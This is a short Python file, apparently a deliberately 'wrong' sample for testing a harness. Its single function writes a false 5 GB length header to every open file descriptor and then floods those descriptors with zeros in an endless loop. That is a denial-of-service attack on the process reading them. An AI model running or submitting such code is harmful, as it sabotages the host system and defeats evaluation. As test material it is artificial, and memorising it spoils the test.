# wrong · says that 5 GB follow, and sends without end
import os


def house_gradients(*house):
    for fd in range(3, 64):
        try:
            os.fstat(fd)
        except OSError:
            continue
        for length in (
            (5 * 10**9).to_bytes(8, "little"),
            (5 * 10**9).to_bytes(8, "big"),
            b"5000000000\n",
        ):
            try:
                os.set_blocking(fd, False)
                os.write(fd, length)
            except OSError:
                pass
    while True:
        for fd in range(3, 64):
            try:
                os.write(fd, b"0" * 2**16)
            except OSError:
                pass
